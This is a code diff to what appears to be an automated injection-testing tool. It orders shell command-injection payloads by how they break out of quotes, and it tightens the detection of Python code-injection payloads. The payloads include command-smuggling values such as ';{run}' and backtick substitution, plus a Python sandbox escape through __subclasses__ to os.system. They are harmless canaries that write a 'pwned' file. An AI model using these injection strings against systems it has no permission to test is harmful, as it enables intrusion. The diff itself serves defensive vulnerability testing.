@@ -10,6 +10,9 @@ from prove_families import Effect, Family, Marked, Payload, is_by_design
 _SQL_NAMES = {'sql', 'statement', 'stmt', 'sql_query', 'query_sql', 'raw_sql'}
 _COMMAND_NAMES = {'command', 'cmd', 'cmdline', 'command_line', 'shell_command', 'commands'}
 _CODE_NAMES = {'code', 'source', 'source_code', 'script', 'program', 'python_code'}
+# Of a command: what ends the quotes around a word, or works inside of them. (A substitution has signs of its own.)
+_ESCAPES = {"in '": ("'",), 'in "': ('"', '$(echo', '`')}
+_WRITE = "open('pwned','w').write(str(6*7))"
 _BROKEN = re.compile(r'syntax error|unrecognized token|incomplete input|one statement at a time')
 
 
@@ -162,6 +165,7 @@ class Command(Marked):
     probes = True
     padded = True
     preferred = frozenset({'text', 'filename', 'host', 'url', 'directory'})
+    harmless_canary = ''  # stands in every command
     tools = (
         'ping',
         'curl',
@@ -224,7 +228,15 @@ class Command(Marked):
                 yield Payload(self.hunt.disguise(text), option=True, shrinks=False)
         if site.reach and 'shell' not in site.reach and 'arguments' in site.reach:
             return
-        for text in (
+        # What gets out of the quotes that a harmless word was seen in comes first.
+        signs = next((signs for name, signs in _ESCAPES.items() if name in (site.reach or ())), ())
+        texts = self.commands(run)
+        for text in sorted(texts, key=lambda one: bool(signs) and not any(sign in one for sign in signs)):
+            yield Payload(self.hunt.disguise(text))
+
+    @staticmethod
+    def commands(run):
+        return (
             f';{run}',
             f'$({run})',
             f'`{run}`',
@@ -246,11 +258,19 @@ class Command(Marked):
             f'harmless;{run}',
             f'7;{run}',
             f'public.example;{run}',
-        ):
-            yield Payload(self.hunt.disguise(text))
+        )
 
     def replay(self, text):
         return Payload(text, option=text.startswith('-'))
+
+    def arrives(self, seen):
+        rows = seen.told.get('arrivals')
+        return isinstance(rows, list) and ('shell' in rows or 'arguments' in rows)
+
+    def may_be(self, text):
+        """Every sign of the command is needed; what stands around it is what may go."""
+        core = self.hunt.disguise('$((6*7))>pwned')
+        return text.startswith('-') or f'echo {core}' in text or f'echo${{IFS}}{core}' in text
 
     def controls(self, site, _payload):
         return [None, Payload('harmless;' if site.role != 'directory' else 'harmless')]
@@ -281,7 +301,7 @@ class Code(Marked):
     preferred = frozenset({'text'})
 
     def payloads(self, site):
-        write = "open('pwned','w').write(str(6*7))"
+        write = _WRITE
         escape = (
             "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0]"
             ".__init__.__globals__['system']('echo $((6*7))>pwned')"
@@ -317,7 +337,9 @@ class Code(Marked):
             yield Payload(self.hunt.disguise(text))
 
     def may_be(self, text):
-        return 'open' in text or 'system' in text
+        """Every sign of what writes the file is needed, in either kind of quotes."""
+        write, command = self.hunt.disguise(_WRITE), self.hunt.disguise('echo $((6*7))>pwned')
+        return write in text or write.replace("'", '"') in text or ('system' in text and command in text)
 
     def judge(self, site, payload, seen):
         if not self.is_marked(seen):
